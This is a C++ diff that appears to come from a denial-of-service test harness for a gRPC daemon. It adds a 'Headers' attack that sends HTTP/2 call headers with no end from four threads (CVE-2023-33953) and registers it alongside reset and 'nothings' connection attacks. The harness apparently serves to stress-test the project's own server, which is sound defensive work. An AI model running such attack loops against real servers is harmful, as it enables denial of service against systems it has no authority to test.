@@ -210,6 +210,19 @@ void Nothings(const Connect& connect) {
   OnConnections(2, connect, [](RawHttp2* connection) { connection->SendNothings(); });
 }
 
+// Sends a call's headers, which never end (CVE-2023-33953).
+void Headers(const Connect& connect, const std::string& method) {
+  OnThreads(4, [&](int, const Begun& begun) {
+    for (;;) {
+      RawHttp2 connection = connect();
+      bool goes_on = connection.connected() && connection.BeginHeaders(method);
+      for (; goes_on; begun()) goes_on = connection.ContinueHeaders();
+      begun();  // it may have been refused
+      std::this_thread::sleep_for(kPace);
+    }
+  });
+}
+
 // The same as Reset(), but each connection sends what its buffer takes, and then no more. The
 // daemon's accept loop sees its end while gRPC still reads it.
 void ResetAndClose(const Target& target, const std::string& method) {
@@ -273,6 +286,7 @@ Attacks ConnectionAttacks() {
       {"peer_reset_attach",
        {[](const Target& t) { Reset(ToPeer(t), "/gradsync.v1.Peer/Attach"); }, kOnPeerPort}},
       {"peer_reset_unknown", {[](const Target& t) { Reset(ToPeer(t), kUnknown); }, kOnPeerPort}},
+      {"headers", {[](const Target& t) { Headers(ToSocket(t), kSession); }}},
       {"reset_and_close", {[](const Target& t) { ResetAndClose(t, kSession); }}},
       {"nothings", {[](const Target& t) { Nothings(ToSocket(t)); }}},
       {"peer_nothings", {[](const Target& t) { Nothings(ToPeer(t)); }, kOnPeerPort}},
